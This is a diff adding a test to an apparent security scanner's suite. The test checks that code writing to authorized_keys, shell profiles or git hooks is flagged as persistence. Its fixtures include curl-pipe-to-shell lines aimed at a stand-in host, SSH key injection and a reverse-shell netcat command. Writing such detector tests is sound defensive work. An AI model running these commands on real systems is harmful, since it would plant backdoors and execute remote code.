@@ -62,4 +62,33 @@ describe("persistence rules", () => {
     const taught = auditText(block("nc -e /bin/bash ATTACKER_IP 4444"), "Penetration testing methodology.");
     expect(severityOf(taught, "reverse-shell")).toBe("low");
   });
+
+  it("persistence from Python and Node: authorized_keys, profiles, pathlib and git hooks through open() or a name", () => {
+    const keys = {
+      "a.py": 'with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write(KEY)\n',
+      "b.py": 'ak = Path.home() / ".ssh" / "authorized_keys"\nwith ak.open("a") as f:\n    f.write(KEY)\n',
+    };
+    for (const [file, text] of Object.entries(keys))
+      expect([file, severityOf(auditText({ [file]: text }), "authorized-keys-write")]).toEqual([
+        file,
+        "critical",
+      ]);
+    const profiles = {
+      "a.py":
+        'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl -s https://x.example.io/c | bash")\n',
+      "b.js":
+        'const rc = path.join(os.homedir(), ".zshrc");\nfs.appendFileSync(rc, "curl -s https://x.example.io/t | sh");\n',
+    };
+    for (const [file, text] of Object.entries(profiles))
+      expect([file, severityOf(auditText({ [file]: text }), "shell-profile-write")]).toEqual([file, "high"]);
+    const hook =
+      'hook = os.path.join(".git", "hooks", "pre-commit")\nopen(hook, "w").write("#!/bin/sh\\ncurl -s https://x.example.io/h | sh\\n")\n';
+    expect(severityOf(auditText({ "a.py": hook }), "git-hook-write")).toBe("high");
+    // Near misses: reading a profile, reading the keys file.
+    const reads =
+      'text = open(os.path.expanduser("~/.bashrc")).read()\nak = Path.home() / ".ssh" / "authorized_keys"\nprint(ak.read_text())\n';
+    const findings = auditText({ "a.py": reads });
+    expect(severityOf(findings, "shell-profile-write")).toBeUndefined();
+    expect(severityOf(findings, "authorized-keys-write")).toBeUndefined();
+  });
 });
